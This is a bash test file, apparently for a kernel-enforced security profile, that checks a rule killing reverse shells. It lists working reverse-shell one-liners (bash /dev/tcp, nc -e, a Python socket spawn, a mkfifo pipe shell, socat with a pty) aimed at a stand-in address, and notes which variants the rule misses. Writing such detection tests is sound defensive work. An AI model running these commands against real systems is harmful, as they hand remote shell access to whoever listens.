# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
# reverse_shell: a network peer that types into a program. The profile is as shipped.
# Once: the verdicts are the kernel's.

# listen: a peer that waits for a shell, types into it, and keeps what comes back
listen() {
	local i

	# shellcheck disable=SC2016 # for the shell at the other end
	printf 'echo ran-$((6 * 7))\nexit\n' | timeout 240 nc -l 192.0.2.1 4444 >"$work/heard" 2>/dev/null &
	peer=$!
	for ((i = 0; i < 600; i++)); do
		[[ -z $(ss --no-header --listening --tcp --numeric 'sport = :4444') ]] || return
		sleep 0.1
	done
}

# heard NAME WANT: what came back, once the connection is gone
heard() {
	wait "$peer"
	equal "$1" "$2" "$(grep --only-matching ran-42 "$work/heard")"
}

# shell NAME SCRIPT: a way to a shell that works without a profile, and never runs under one
shell() {
	local name=$1

	listen
	act free prepare sh "$2"
	heard "$name works without a profile" ran-42
	listen
	refuse_shell "$2"
	heard "$name never runs" ""
	equal "$name leaves one event" "reverse_shell kill reverse_shell" \
		"$(cut --delimiter=' ' --fields=2- "$work/events")"
}

refuse_shell() {
	act "$session_container" prepare sh "$1"
	: >"$work/taken"
	collect shell
	list_events
}

# other_shell NAME SCRIPT: a shell that this rule does not catch
other_shell() {
	listen
	act "$session_container" prepare sh "$2"
	heard "$1 is another matter" ran-42
	: >"$work/taken"
	collect shell
	list_events
	equal "$1 leaves no event" "" "$(<"$work/events")"
}

session reverse-shell no-reverse-shell || return
shell "bash /dev/tcp" "bash -c 'bash >& /dev/tcp/192.0.2.1/4444 0>&1'"
shell "nc -e" "nc.traditional 192.0.2.1 4444 -e /bin/sh"
shell "a python one-liner" "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.1\",4444));\
[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call([\"/bin/sh\"])'"
other_shell "a shell behind pipes" \
	"mkfifo /tmp/pipe; sh </tmp/pipe 2>&1 | nc.traditional -q 1 192.0.2.1 4444 >/tmp/pipe"
# Slow machines: what the shell has said is still on its way when it ends.
other_shell "a shell behind a pty" "socat -t 5 tcp:192.0.2.1:4444 exec:/bin/sh,pty,stderr,setsid"
stop reverse-shell

session reverse-shell-descriptors no-reverse-shell || return
kills "stdin and stdout" reverse_shell reverse_shell connected tcp 192.0.2.1 8080 0,1 : exec /opt/other
kills "stdin and stderr" reverse_shell reverse_shell connected tcp 2001:db8::1 8080 0,2 : exec /opt/other
kills "udp" reverse_shell reverse_shell connected udp 192.0.2.1 8053 0,1,2 : exec /opt/other
kills -s "mptcp" reverse_shell reverse_shell connected mptcp 192.0.2.1 8080 0,1 : exec /opt/other
kills "a peer that was waited for" reverse_shell reverse_shell accepted 192.0.2.1 8090 0,1,2 : exec /opt/other
kills -s "another family's TCP" reverse_shell reverse_shell connected-smc 192.0.2.1 8080 0,1,2 : exec /opt/other
kills "by a descriptor" reverse_shell reverse_shell connected tcp 192.0.2.1 8080 0,1 : execveat /opt/other
kills "a thread's exec" reverse_shell reverse_shell connected tcp 192.0.2.1 8080 0,1 : exec-thread /opt/other
kills -w "exit 137" "a child's" reverse_shell reverse_shell connected tcp 192.0.2.1 8080 0,1 : clone files : exec /opt/other
kills "a socket that went around" reverse_shell reverse_shell \
	connected tcp 192.0.2.1 8080 0,1 : pass-around 0 : exec /opt/other
permits "stdin alone" connected tcp 192.0.2.1 8080 0 : exec /opt/other
permits "stdout and stderr" connected tcp 192.0.2.1 8080 1,2 : exec /opt/other
permits "another descriptor" connected tcp 192.0.2.1 8080 0,5 : exec /opt/other
permits "a local socket" pair-at : exec /opt/other
end_session
